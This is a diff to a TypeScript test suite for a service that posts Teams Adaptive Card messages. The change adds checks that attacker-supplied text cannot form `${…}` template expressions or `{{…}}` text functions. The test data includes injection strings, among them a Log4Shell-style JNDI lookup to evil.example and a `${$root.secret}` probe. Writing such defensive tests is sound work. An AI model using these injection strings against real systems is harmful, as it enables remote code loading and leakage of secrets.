@@ -17,7 +17,9 @@ import {
  * Cards are checked against the Adaptive Cards 1.5 JSON schema (test/fixtures/adaptive-cards, from
  * microsoft/AdaptiveCards), and by rules written from the Adaptive Cards text documentation
  * (https://aka.ms/ACTextFeatures): TextBlock and Fact texts are a markdown subset, TextRun texts are not markdown, and
- * `{{DATE(…)}}` / `{{TIME(…)}}` are functions in text. D46: the only link is the incident's page on APP_URL.
+ * `{{DATE(…)}}` / `{{TIME(…)}}` are functions in text; the Adaptive Cards templating language
+ * (https://aka.ms/ACTemplating) expands `${…}` in any string of a card that goes through it. D46: the only link is the
+ * incident's page on APP_URL.
  */
 
 /** The most a Teams message may be (the Teams and Workflows limit is about 28 KB). */
@@ -63,6 +65,7 @@ export const checkTeams = (payload: unknown): Array<Found> => {
   const text = (where: string, s: string, markdown: boolean) => {
     if (INVISIBLE.test(s)) out.push({ where, problem: `an invisible or control character: ${JSON.stringify(s)}` })
     if (s.includes("{{")) out.push({ where, problem: `a text function: ${s}` })
+    if (s.includes("${")) out.push({ where, problem: `a template expression: ${s}` })
     if (URL_LIKE.test(s.replace(/\\/g, ""))) out.push({ where, problem: `URL-like text: ${s}` })
     if (markdown && unescapedMarkdown(s)) out.push({ where, problem: `unescaped markdown: ${s}` })
   }
@@ -188,6 +191,41 @@ describe("D46: Teams messages", () => {
     expect(json).toContain('"text":"[x](hxxp[:]//evil[.]example) *b* ｛{DATE(x)}}[U+202E]","fontType":"Monospace"')
     expect(json).toContain(
       "\\\\[x\\\\](hxxp\\\\[:\\\\]//evil\\\\[.\\\\]example) \\\\*b\\\\* ｛{DATE(x)}}\\\\[U+202E\\\\]",
+    )
+  })
+
+  test("attacker text cannot write a template expression \u0024{…} (or a text function, even after another {) anywhere in a card", () => {
+    const writes = [
+      "\u0024{jndi:ldap://evil.example/a}",
+      "\u0024{$root.secret}",
+      "$\u0024{x}",
+      "\u0024{{DATE(2017-02-14T06:08:39Z, SHORT)}}",
+      "{{{DATE(2017-02-14T06:08:39Z, SHORT)}}}",
+      "{\u0024{if(true, 'a', 'b')}}",
+      "x$\u200B{y}",
+    ]
+    for (const s of writes) {
+      // In every place attacker text goes (usernames, details, sensor name and profile), and in a service title.
+      const payload = teamsMessage(hostileMessage(s), CTX)
+      expect({ s, problems: checkTeams(payload) }).toEqual({ s, problems: [] })
+      const titled = incidentMessage("incident.created", { rawTitle: `Login as ${JSON.stringify(s)} ${s}` })
+      expect({ s, problems: checkTeams(teamsMessage(titled, CTX)) }).toEqual({ s, problems: [] })
+    }
+    const json = JSON.stringify(teamsMessage(hostileMessage("\u0024{jndi:x} {{{DATE(x)}}}"), CTX))
+    // Shown as typed but for the one brace that would open the expression.
+    expect(json).toContain('"text":"$｛jndi:x} ｛｛{DATE(x)}}}","fontType":"Monospace"')
+  })
+
+  test("no text of a card holds \u0024{ or {{, whatever the attacker text", () => {
+    const unit = fc.constantFrom("{", "}", "$", "\\", "`", "a", " ", "\u200B", "｛")
+    fc.assert(
+      fc.property(fc.string({ unit, maxLength: 16 }), (s) => {
+        const payload = teamsMessage(hostileMessage(s), CTX)
+        const texts = JSON.stringify(payload)
+        expect(checkTeams(payload).filter((f) => /text function|template expression/.test(f.problem))).toEqual([])
+        expect(texts.includes("\u0024{")).toBe(false)
+      }),
+      { numRuns: Number(process.env.FC_RUNS ?? 200) },
     )
   })
 
